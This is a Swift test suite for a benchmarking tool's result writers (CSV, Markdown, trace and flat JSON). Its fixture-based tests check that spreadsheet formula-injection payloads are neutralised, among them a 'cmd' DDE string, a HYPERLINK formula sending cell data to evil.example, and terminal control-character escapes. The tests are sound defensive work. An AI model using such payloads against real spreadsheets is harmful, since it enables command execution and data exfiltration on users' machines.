import Foundation
import Results
import Statistics
import Testing

@Suite("Writers")
struct WriterTests {
    private var run: RunRecord {
        var modelled = SampleRuns.measurement(strategy: "flash", seconds: 1e-3, joules: 0.05, provenance: .modelled)
        modelled.energy?.windows = [WindowRecord(begin: 10, end: 12, iterations: 2000, grossJoules: 100)]
        var failed = SampleRuns.measurement(strategy: "broken", seconds: 1e-3)
        failed.status = .failed
        failed.message = "the driver said \"no, never\",\nand | left"
        failed.time = nil
        failed.derived = nil
        var run = SampleRuns.run([
            SampleRuns.measurement(strategy: "unfused", seconds: 2e-3, joules: 0.1, provenance: .modelled), modelled,
            failed,
            SampleRuns.measurement(strategy: "measured", seconds: 1.5e-3, joules: 0.08),
        ])
        run.comparisons = withinRunComparisons(run, baselines: ["attention": "unfused"])
        return run
    }

    /// Fields of RFC 4180 text, by a reader of its own.
    private func parse(_ text: String) -> [[String]] {
        var rows: [[String]] = [[""]]
        var isQuoted = false
        var previousWasQuote = false
        for scalar in text.unicodeScalars {
            let last = rows.count - 1
            let field = rows[last].count - 1
            if scalar == "\"" {
                if previousWasQuote, !isQuoted { rows[last][field].unicodeScalars.append(scalar) }
                isQuoted.toggle()
                previousWasQuote = !isQuoted
                continue
            }
            previousWasQuote = false
            switch scalar {
            case "," where !isQuoted: rows[last].append("")
            case "\n" where !isQuoted: rows.append([""])
            default: rows[last][field].unicodeScalars.append(scalar)
            }
        }
        return Array(rows.dropLast())
    }

    @Test("CSV has a row a measurement, quotes what needs it, and keeps every digit")
    func csv() throws {
        let run = run
        let rows = parse(CSVWriter.text(of: run))
        #expect(rows.count == 5 && Set(rows.map(\.count)).count == 1)
        func field(_ name: String, _ row: Int) throws -> String {
            rows[row + 1][try #require(rows[0].firstIndex(of: name))]
        }
        #expect(try field("message", 2) == run.measurements[2].message)
        #expect(Double(try field("seconds", 1)) == run.measurements[1].time?.median)
        #expect(try field("parameters", 0) == "D=128 L=1024")
        #expect(try field("energyProvenance", 1) == "modelled" && field("energyProvenance", 3) == "measured")
        for name in ["seconds", "secondsLower", "samples", "grossJoules", "energyResolved", "flopsPerSecond"] {
            #expect(try field(name, 2) == "", "\(name) is unknown and must be empty")
        }
    }

    @Test("Python's csv module reads the CSV as it was meant")
    func csvInPython() throws {
        let folder = try TemporaryFolder()
        try Data(CSVWriter.text(of: run).utf8).write(to: URL(filePath: folder.file("run.csv")))
        let script = """
            import csv, sys
            rows = list(csv.DictReader(open(sys.argv[1], newline="")))
            print(len(rows), rows[2]["message"] == 'the driver said "no, never",\\nand | left', repr(rows[2]["grossJoules"]))
            """
        let process = Process()
        process.executableURL = URL(filePath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script, folder.file("run.csv")]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        #expect(output == "4 True ''\n")
    }

    @Test("Markdown marks what is modelled, leaves unknowns empty and keeps its tables whole")
    func markdown() throws {
        let text = MarkdownWriter.text(of: run)
        let rows = text.split(separator: "\n").filter { $0.hasPrefix("| attention/") }
        #expect(rows.count == 4 + 2)
        // A bar that is part of a text is escaped, so that every row has the bars of its 15 columns.
        for row in rows.prefix(4) {
            let bars = row.replacingOccurrences(of: "\\|", with: "").filter { $0 == "|" }.count
            #expect(bars == 16, "\(row)")
        }
        #expect(rows[1].contains("≈ 50.0 mJ") && rows[1].contains("1.00"))
        #expect(rows[3].contains("80.0 mJ") && !rows[3].contains("≈"))
        #expect(rows[1].contains("| modelled |") && rows[3].contains("| measured |"))
        #expect(rows[2].contains("|  |  |") && !rows[2].contains("| 0"))
        #expect(rows[4].contains("faster") && rows[4].contains("≈ cheaper"))
        #expect(text.contains("≈ marks energy that is computed by a model"))
    }

    private func hostile() throws -> RunRecord {
        let path = URL(filePath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appending(path: "Fixtures/results/formulas-and-escapes.json").path
        var run = try RunFile.read(path)
        var other = try #require(run.measurements.first)
        (other.strategy, other.workload) = ("\u{1B}[31mred\u{7}", "-1")
        (other.message, other.codePath) = ("\t=1+1\r\n\u{9B}2J", " ＝1+1")
        run.measurements.append(other)
        return run
    }

    @Test(
        "CSV: what a spreadsheet would take for a formula is text, control characters are visible, numbers stay numbers"
    )
    func formulasInCSV() throws {
        let text = CSVWriter.text(of: try hostile())
        let rows = parse(text)
        func fields(_ name: String) throws -> [String] {
            let column = try #require(rows[0].firstIndex(of: name))
            return rows.dropFirst().map { $0[column] }
        }
        #expect(try fields("family")[0] == "'+1+1")
        #expect(try fields("strategy") == ["'=cmd|' /C calc'!A0", "\u{FFFD}[31mred\u{FFFD}"])
        #expect(try fields("workload") == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"ok\")", "-1"])
        #expect(try fields("message") == ["'@SUM(1+1)*cmd", "'\t=1+1\u{FFFD}\n\u{FFFD}2J"])
        #expect(try fields("codePath")[1] == "' ＝1+1")
        #expect(try fields("grossJoules")[0] == "0.029948450476408376")
        for row in rows.dropFirst() {
            for field in row where !field.isEmpty { #expect(!"=+@\t\r".contains(field.first ?? " "), "\(field)") }
        }
        #expect(
            !text.unicodeScalars.contains { ($0.value < 32 && $0 != "\n" && $0 != "\t") || (127..<160) ~= $0.value })
    }

    @Test("Markdown: the same, in every cell")
    func formulasInMarkdown() throws {
        let text = MarkdownWriter.text(of: try hostile())
        let rows = text.split(separator: "\n").filter { $0.hasPrefix("|") }.dropFirst(2)
        #expect(rows.count == 2 && rows.first?.hasPrefix("| '+1+1/=cmd\\|' /C calc'!A0 | '=HYPERLINK(") == true)
        #expect(rows.last?.contains("| -1 |") == true)
        for row in rows {
            for cell in row.replacing("\\|", with: "").split(separator: "|") {
                #expect(!"=+@\t".contains(cell.drop { $0 == " " }.first ?? " "), "\(cell)")
            }
        }
        #expect(!text.unicodeScalars.contains { ($0.value < 32 && $0 != "\n") || (127..<160) ~= $0.value })
    }

    @Test("the trace is JSON that starts at zero; samples of unknown times are laid end to end")
    func trace() throws {
        let run = run
        let object = try JSONSerialization.jsonObject(with: Data(try TraceWriter.text(of: run).utf8))
        let events = try #require((object as? [String: Any])?["traceEvents"] as? [[String: Any]])
        let windows = events.filter { $0["cat"] as? String == "window" }
        #expect(windows.count == 1)
        #expect(windows[0]["ts"] as? Double == 0 && windows[0]["dur"] as? Double == 2e6)
        let arguments = try #require(windows[0]["args"] as? [String: Any])
        #expect(arguments["≈ watts"] as? Double == 50 && arguments["provenance"] as? String == "modelled")
        let samples = events.filter { $0["cat"] as? String == "sample" }
        #expect(samples.count == run.measurements.reduce(0) { $0 + ($1.time?.sampleSeconds.count ?? 0) })
        var end = 0.0
        for sample in samples {
            let begin = try #require(sample["ts"] as? Double)
            #expect(abs(begin - end) < 1e-3)
            end = begin + (try #require(sample["dur"] as? Double))
        }
        let processes = Set(events.filter { $0["ph"] as? String == "X" }.compactMap { $0["pid"] as? Int })
        let named = events.filter { $0["name"] as? String == "process_name" }.compactMap { $0["pid"] as? Int }
        #expect(processes == Set(named))
    }

    @Test("samples lie where their rounds began, with the device's clock and temperature, all from zero on")
    func traceOfRounds() throws {
        var run = SampleRuns.run([SampleRuns.measurement(strategy: "flash", seconds: 1e-3, joules: 0.05)])
        run.label = "before"
        var rounds = SampleRounds()
        rounds.pass = [0, 1]
        rounds.samples = [20, 40]
        rounds.begins = [1000, 1002.5]
        rounds.clockHertz = [3e9, nil]
        rounds.celsius = [61, 64]
        run.measurements[0].time?.rounds = rounds
        run.measurements[0].time?.batch = 2
        run.measurements[0].energy?.windows = [WindowRecord(begin: 1001, end: 1002, iterations: 1000, grossJoules: 50)]
        let object = try JSONSerialization.jsonObject(with: Data(try TraceWriter.text(of: run).utf8))
        let events = try #require((object as? [String: Any])?["traceEvents"] as? [[String: Any]])
        func times(_ category: String) -> [Double] {
            events.filter { $0["cat"] as? String == category }.compactMap { $0["ts"] as? Double }
        }
        #expect(times("measurement") == [0] && times("window") == [1e6])
        #expect(times("round").map { $0.rounded() } == [2.5e6])
        let samples = times("sample")
        #expect(samples.count == 60 && samples[0] == 0 && abs(samples[20] - 2.5e6) < 1)
        let kept = try #require(run.measurements[0].time?.sampleSeconds)
        #expect(abs(samples[1] - kept[0] * 2e6) < 1e-3)
        let counters = events.filter { $0["ph"] as? String == "C" }
        let values = counters.compactMap { ($0["args"] as? [String: Double])?.values.first }
        #expect(values.sorted() == [50, 61, 64, 3e9])
        let names = events.compactMap { ($0["args"] as? [String: Any])?["name"] as? String }
        #expect(names.contains("before: samples"))
    }

    @Test("CSV and the flat JSON hold several runs, each row with its run, label and host")
    func severalRuns() throws {
        var other = SampleRuns.run(
            [SampleRuns.measurement(strategy: "flash", seconds: 3e-3)], model: "=Other CPU")
        other.label = "after"
        let rows = parse(CSVWriter.text(of: [run, other]))
        #expect(rows.count == 1 + 4 + 1 && Set(rows.map(\.count)).count == 1)
        func field(_ name: String, _ row: Int) throws -> String {
            rows[row][try #require(rows[0].firstIndex(of: name))]
        }
        #expect(try field("run", 1) == "1" && field("run", 5) == "2")
        #expect(try field("label", 1) == "" && field("label", 5) == "after")
        #expect(try field("host", 1) == "Example CPU" && field("host", 5) == "'=Other CPU")
        #expect(try field("baseline", 2) == "unfused" && field("timeVerdict", 2) == "faster")
        #expect(try field("baseline", 1) == "")
    }

    @Test("Python's json reads the flat form as records of plain values, all with the same keys")
    func flatInPython() throws {
        let folder = try TemporaryFolder()
        try Data(try FlatWriter.text(of: [run, try hostile()]).utf8).write(to: URL(filePath: folder.file("flat.json")))
        let script = """
            import json, sys
            rows = json.load(open(sys.argv[1]))
            assert isinstance(rows, list) and len({tuple(sorted(row)) for row in rows}) == 1
            assert all(not isinstance(value, (list, dict)) for row in rows for value in row.values())
            print(len(rows), rows[0]["seconds"], rows[2]["grossJoules"], rows[0]["parameters.L"], rows[0]["cold"],
                  rows[0]["seed"], rows[4]["workload"], rows[4]["run"])
            """
        let process = Process()
        process.executableURL = URL(filePath: "/usr/bin/env")
        process.arguments = ["python3", "-c", script, folder.file("flat.json")]
        let pipe = Pipe()
        process.standardOutput = pipe
        try process.run()
        let output = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        let seconds = try #require(run.measurements[0].time?.median)
        // Values stand as they are: JSON has no formulas.
        let workload = try hostile().measurements[0].workload
        #expect(output == "6 \(seconds) None 1024 True 7 \(workload) 2\n")
    }

    @Test("an empty run gives heads without rows")
    func empty() throws {
        let run = SampleRuns.run()
        #expect(parse(CSVWriter.text(of: run)).count == 1)
        #expect(!MarkdownWriter.text(of: run).contains("≈"))
        #expect(try TraceWriter.text(of: run).contains("traceEvents"))
    }

    @Test(
        "Markdown takes whatever numbers a file holds",
        arguments: [Double.leastNonzeroMagnitude, .leastNormalMagnitude, 1e-30, 1e-16, 1e308])
    func extremes(value: Double) {
        var run = run
        for index in run.measurements.indices {
            run.measurements[index].time?.median = value
            run.measurements[index].time?.relativeNoise = value
            run.measurements[index].energy?.grossJoules = value
            run.measurements[index].energy?.interval = Interval(-value, value)
            run.measurements[index].derived?.flopsPerSecond = value
        }
        for index in run.comparisons.indices {
            run.comparisons[index].speedup = value
            run.comparisons[index].trafficRatio = value
        }
        #expect(MarkdownWriter.text(of: run).contains("| attention/flash"))
    }

    @Test("rounds hold what samples there are, whatever counts a file claims")
    func rounds() {
        var rounds = SampleRounds()
        rounds.samples = [2, .max, -1, .max]
        #expect(rounds.split([1, 2, 3]).map(Array.init) == [[1, 2], [3], [], []])
    }
}
